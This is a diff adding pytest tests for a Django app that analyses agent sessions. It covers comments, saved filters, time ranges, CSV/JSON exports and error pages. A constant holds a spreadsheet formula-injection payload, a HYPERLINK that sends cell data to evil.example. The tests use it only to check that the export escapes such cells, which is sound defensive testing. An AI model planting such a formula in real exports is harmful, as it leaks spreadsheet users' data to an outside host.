@@ -1,0 +1,221 @@
+"""Team features through the Django test client: comments with edit history, saved filters,
+the relative time range, CSV/JSON exports (formula-safe), and the branded error pages."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import timedelta
+
+import pytest
+from django.test import Client, RequestFactory
+from django.utils import timezone
+from django.views.defaults import server_error
+
+from compaction import services, team
+from compaction.models import CompactionSpan
+from compaction.team_models import Comment, SavedFilter
+from sessions.errors import BadRequest
+from sessions.exports import csv_cell
+from sessions.models import AgentSession
+from tests.factories import coding_session_messages, make_project, make_session, make_user
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def project():
+    return make_project()
+
+
+@pytest.fixture
+def session(project):
+    session = make_session(
+        project,
+        external_id="billing-run",
+        session={"agent": HOSTILE},
+        messages=coding_session_messages(turns=20),
+        compactions=[
+            {
+                "seq": 30,
+                "trigger": "auto",
+                "strategy": "summarize",
+                "tokens_before": 150000,
+                "tokens_after": 30000,
+                "summary": "Goal: migrate billing.",
+                "replaced": {"from_seq": 2, "to_seq": 25},
+                "error": "-1 @ summarizer failed",
+            }
+        ],
+    )
+    services.session_analyse(session_id=session.pk)
+    return session
+
+
+@pytest.fixture
+def member(project):
+    return make_user(project=project)
+
+
+@pytest.fixture
+def client_in(client: Client, member) -> Client:
+    client.force_login(member)
+    return client
+
+
+# --- comments --------------------------------------------------------------------------
+
+
+def test_a_comment_on_a_session_shows_its_author_and_time_and_is_escaped(
+    client_in: Client, session, member
+):
+    response = client_in.post(
+        f"/sessions/{session.pk}/comments/", {"body": "<b>look</b> at #30"}, follow=True
+    )
+    comment = Comment.objects.get()
+    assert comment.author == member
+    assert comment.span is None
+    page = response.content.decode()
+    assert f'id="comment-{comment.pk}"' in page
+    assert "&lt;b&gt;look&lt;/b&gt; at #30" in page
+    assert member.username in page
+    assert comment.created_at.strftime("%Y-%m-%d %H:%M") in page
+
+
+def test_a_comment_on_a_span_is_shown_on_the_span_page_not_the_session_page(
+    client_in: Client, session
+):
+    span = CompactionSpan.objects.get(session=session)
+    client_in.post(
+        f"/sessions/{session.pk}/comments/", {"body": "summary lost the rule", "span": span.pk}
+    )
+    assert (
+        "summary lost the rule"
+        in client_in.get(f"/sessions/{session.pk}/spans/{span.pk}/").content.decode()
+    )
+    assert "summary lost the rule" not in client_in.get(f"/sessions/{session.pk}/").content.decode()
+
+
+def test_editing_keeps_the_old_text_in_the_history(client_in: Client, session, member):
+    comment = team.comment_create(session=session, author=member, body="first take")
+    client_in.post(f"/sessions/{session.pk}/comments/{comment.pk}/edit/", {"body": "second take"})
+    comment.refresh_from_db()
+    assert comment.body == "second take"
+    assert comment.edited_at is not None
+    assert [r.body for r in comment.revisions.all()] == ["first take"]
+    page = client_in.get(f"/sessions/{session.pk}/").content.decode()
+    assert "Edit history (1)" in page
+    assert "first take" in page
+
+
+def test_only_the_author_can_edit_and_an_empty_comment_is_refused(session, project, member):
+    comment = team.comment_create(session=session, author=member, body="mine")
+    other = make_user(project=project)
+    with pytest.raises(BadRequest, match="author"):
+        team.comment_edit(comment_id=comment.pk, editor=other, body="theirs")
+    with pytest.raises(BadRequest, match="body"):
+        team.comment_create(session=session, author=member, body="   ")
+    comment.refresh_from_db()
+    assert comment.body == "mine"
+    assert not comment.revisions.exists()
+
+
+def test_a_non_member_cannot_comment(client: Client, session):
+    client.force_login(make_user(project=make_project()))
+    response = client.post(f"/sessions/{session.pk}/comments/", {"body": "hi"})
+    assert response.status_code == 404
+    assert not Comment.objects.exists()
+
+
+# --- saved filters and the relative range ------------------------------------------------
+
+
+def test_saved_filters_are_per_user_and_keep_only_list_parameters(
+    client_in: Client, member, project
+):
+    client_in.post("/filters/", {"name": "hot", "query": "period=7d&min_fill=90&page=4&x=1"})
+    saved = SavedFilter.objects.get()
+    assert (saved.user, saved.query) == (member, "period=7d&min_fill=90")
+    assert 'href="?period=7d&amp;min_fill=90"' in client_in.get("/").content.decode()
+    stranger = Client()
+    stranger.force_login(make_user(project=project))
+    assert "hot" not in stranger.get("/").content.decode().split("Saved:")[-1][:200]
+    assert not team.saved_filter_delete(user=make_user(project=project), filter_id=saved.pk)
+    client_in.post(f"/filters/{saved.pk}/delete/")
+    assert not SavedFilter.objects.exists()
+
+
+def test_relative_range_keeps_sessions_updated_within_it(client_in: Client, project):
+    fresh = make_session(project, external_id="fresh")
+    stale = make_session(project, external_id="stale")
+    AgentSession.objects.filter(pk=stale.pk).update(updated_at=timezone.now() - timedelta(days=9))
+    page = client_in.get("/?period=7d").content.decode()
+    assert "fresh" in page
+    assert "stale" not in page
+    assert "1 session matches these filters" in page
+    assert "stale" in client_in.get("/?period=30d").content.decode()
+    assert fresh.pk
+
+
+# --- exports ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE])
+def test_csv_cells_that_would_run_as_a_formula_are_quoted(value):
+    assert csv_cell(value) == "'" + value
+
+
+def test_session_curve_and_spans_export_as_csv_and_json(client_in: Client, session):
+    curve = client_in.get(f"/sessions/{session.pk}/curve.csv")
+    assert curve["Content-Disposition"] == f'attachment; filename="session-{session.pk}-curve.csv"'
+    rows = list(csv.DictReader(io.StringIO(curve.content.decode())))
+    assert len(rows) == len(session.analysis.curve) > 0
+    assert rows[0]["context_tokens"] == str(session.analysis.curve[0]["context_tokens"])
+    spans = json.loads(client_in.get(f"/sessions/{session.pk}/spans.json").content)
+    assert [s["seq"] for s in spans["spans"]] == [30]
+    spans_csv = client_in.get(f"/sessions/{session.pk}/spans.csv").content.decode()
+    assert "reported error: -1 @ summarizer failed" in spans_csv
+    assert client_in.get(f"/sessions/{session.pk}/spans.xml").status_code == 404
+
+
+def test_list_export_follows_the_filters_and_neutralizes_hostile_cells(
+    client_in: Client, session, project
+):
+    make_session(project, external_id="other-agent", session={"agent": "docs"})
+    body = client_in.get("/sessions/export.csv", {"agent": HOSTILE}).content.decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [r["external_id"] for r in rows] == ["billing-run"]
+    assert rows[0]["agent"] == "'" + HOSTILE
+    listed = json.loads(client_in.get("/sessions/export.json").content)["sessions"]
+    assert {s["external_id"] for s in listed} == {"billing-run", "other-agent"}
+    assert listed[0]["agent"] in (HOSTILE, "docs")  # JSON is data, written as is
+
+
+def test_exports_are_for_members_only(client: Client, session):
+    client.force_login(make_user(project=make_project()))
+    assert client.get(f"/sessions/{session.pk}/curve.csv").status_code == 404
+    assert json.loads(client.get("/sessions/export.json").content)["sessions"] == []
+
+
+# --- error pages (DEBUG is off under pytest-django) --------------------------------------
+
+
+def test_the_404_page_is_branded_and_helpful(client_in: Client, settings):
+    assert settings.DEBUG is False
+    response = client_in.get("/sessions/999999/")
+    assert response.status_code == 404
+    page = response.content.decode()
+    assert "This page is not here" in page
+    assert "Sawtooth" in page
+    assert "Back to the sessions" in page
+
+
+def test_the_500_page_is_branded_and_needs_no_context():
+    response = server_error(RequestFactory().get("/"))
+    assert response.status_code == 500
+    page = response.content.decode()
+    assert "Something went wrong on our side" in page
+    assert "Sawtooth" in page
